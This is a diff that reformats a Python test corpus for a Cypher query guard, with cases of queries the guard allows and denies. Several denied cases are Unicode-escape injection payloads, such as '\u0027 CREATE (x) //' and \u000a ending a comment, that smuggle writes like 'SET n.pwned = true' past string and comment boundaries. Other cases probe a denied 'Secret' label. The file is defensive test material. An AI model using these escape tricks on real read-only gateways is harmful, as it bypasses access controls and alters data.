 add("MATCH (n:`unterminated) RETURN n", "deny", "parse.failed", label="MALFORMED", tags=["unterminated-backtick"])
-add("USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS l CREATE (:X)", "deny", "parse.failed", label=W, tags=["neo4j-4-syntax"])
-add("MATCH (n) FINISH", "deny", "clause.not_allowed", label="READ-REFUSED-BY-POLICY", tags=["finish"], note="FINISH is not in the default allowed clauses")
+add(
+    "USING PERIODIC COMMIT LOAD CSV FROM 'file:///x' AS l CREATE (:X)",
+    "deny",
+    "parse.failed",
+    label=W,
+    tags=["neo4j-4-syntax"],
+)
+add(
+    "MATCH (n) FINISH",
+    "deny",
+    "clause.not_allowed",
+    label="READ-REFUSED-BY-POLICY",
+    tags=["finish"],
+    note="FINISH is not in the default allowed clauses",
+)
 add("MATCH (n) FINISH", "allow", None, label=R, tags=["finish", "policy-variant"], policy="permissive")
 add("CYPHER runtime=slotted MATCH (n) RETURN n", "deny", "query.option", label="OPTION", tags=["planner-option"])
 add("EXPLAIN CYPHER 5 MATCH (n) RETURN n", "deny", "query.prefix", label="OPTION", tags=["explain"])
 
 # Neo4j 5.26 decodes \uXXXX before lexing (its EXPLAIN plans these as writes).
 U = "UNICODE-ESCAPE"
-add("RETURN '\\u0027 CREATE (x) //' AS s", "deny", "parse.failed", label=U, tags=["unicode-escape", "string"],
-    note="Neo4j reads '' then a live CREATE (EXPLAIN: 'RETURN can only be used at the end')")
-add("MATCH (n) WHERE n.x = '\\u0027 SET n.pwned = true //' RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "string", "write"])
-add("MATCH (n) // \\u000a SET n.x = 1 RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "line-comment"],
-    note="\\u000a ends the // comment in Neo4j")
-add("MATCH (n) /* \\u002a/ SET n.x = 1 /* */ RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "block-comment"])
-add("MATCH (n:`a\\u0060) SET n.x = 1 //`) RETURN n", "deny", "parse.failed", label=U, tags=["unicode-escape", "backtick"])
-add("RETURN '\\\\u0027' AS s", "deny", "parse.failed", label=U, tags=["unicode-escape", "conservative"],
-    note="Neo4j does not decode an escaped backslash's u0027; refused anyway (conservative, documented)")
-add("RETURN '\\u00e9t\\u00e9' AS s", "allow", None, label=R, tags=["unicode-escape", "letters"], note="escapes decoding to letters are harmless")
-add("MATCH (n) WHERE n.x <> 1 AND n.y != 2 RETURN n", "deny", "parse.failed", label="MALFORMED", tags=["inequality"],
-    note="Neo4j 5 rejects != ('Unknown operation'); so does the guard")
-add("CALL DB.LABELS() YIELD label RETURN label", "deny", "procedure.not_allowed", label=P, tags=["case"],
-    note="Neo4j resolves procedure names case-sensitively; DB.LABELS does not exist")
+add(
+    "RETURN '\\u0027 CREATE (x) //' AS s",
+    "deny",
+    "parse.failed",
+    label=U,
+    tags=["unicode-escape", "string"],
+    note="Neo4j reads '' then a live CREATE (EXPLAIN: 'RETURN can only be used at the end')",
+)
+add(
+    "MATCH (n) WHERE n.x = '\\u0027 SET n.pwned = true //' RETURN n",
+    "deny",
+    "parse.failed",
+    label=U,
+    tags=["unicode-escape", "string", "write"],
+)
+add(
+    "MATCH (n) // \\u000a SET n.x = 1 RETURN n",
+    "deny",
+    "parse.failed",
+    label=U,
+    tags=["unicode-escape", "line-comment"],
+    note="\\u000a ends the // comment in Neo4j",
+)
+add(
+    "MATCH (n) /* \\u002a/ SET n.x = 1 /* */ RETURN n",
+    "deny",
+    "parse.failed",
+    label=U,
+    tags=["unicode-escape", "block-comment"],
+)
+add(
+    "MATCH (n:`a\\u0060) SET n.x = 1 //`) RETURN n",
+    "deny",
+    "parse.failed",
+    label=U,
+    tags=["unicode-escape", "backtick"],
+)
+add(
+    "RETURN '\\\\u0027' AS s",
+    "deny",
+    "parse.failed",
+    label=U,
+    tags=["unicode-escape", "conservative"],
+    note="Neo4j does not decode an escaped backslash's u0027; refused anyway (conservative, documented)",
+)
+add(
+    "RETURN '\\u00e9t\\u00e9' AS s",
+    "allow",
+    None,
+    label=R,
+    tags=["unicode-escape", "letters"],
+    note="escapes decoding to letters are harmless",
+)
+add(
+    "MATCH (n) WHERE n.x <> 1 AND n.y != 2 RETURN n",
+    "deny",
+    "parse.failed",
+    label="MALFORMED",
+    tags=["inequality"],
+    note="Neo4j 5 rejects != ('Unknown operation'); so does the guard",
+)
+add(
+    "CALL DB.LABELS() YIELD label RETURN label",
+    "deny",
+    "procedure.not_allowed",
+    label=P,
+    tags=["case"],
+    note="Neo4j resolves procedure names case-sensitively; DB.LABELS does not exist",
+)
 
-for q, tags in [("MATCH (s:Secret) RETURN s", ["denied-label"]), ("MATCH (n) WHERE n:Secret RETURN n", ["label-check"]),
-                ("MATCH (n) WHERE EXISTS { (n)-->(:`Secret`) } RETURN n", ["exists", "backticks"]),
-                ("MATCH (n:Public|Secret) RETURN n", ["label-expression"])]:
+for q, tags in [
+    ("MATCH (s:Secret) RETURN s", ["denied-label"]),
+    ("MATCH (n) WHERE n:Secret RETURN n", ["label-check"]),
+    ("MATCH (n) WHERE EXISTS { (n)-->(:`Secret`) } RETURN n", ["exists", "backticks"]),
+    ("MATCH (n:Public|Secret) RETURN n", ["label-expression"]),
+]:
     add(q, "deny", "label.denied", label=S, tags=tags, policy="permissive", note="the test policy denies label Secret")
 
-add("UNWIND $rows AS row MATCH (n {id: row.id}) RETURN$n, row", "deny", "parse.failed", label="MALFORMED",
-    tags=["dollar-in-identifier"], note="Neo4j reads RETURN$n as one identifier")
+add(
+    "UNWIND $rows AS row MATCH (n {id: row.id}) RETURN$n, row",
+    "deny",
+    "parse.failed",
+    label="MALFORMED",
+    tags=["dollar-in-identifier"],
+    note="Neo4j reads RETURN$n as one identifier",
+)
 
 # sanity: every case decides as labelled with the current guard
 bad = []
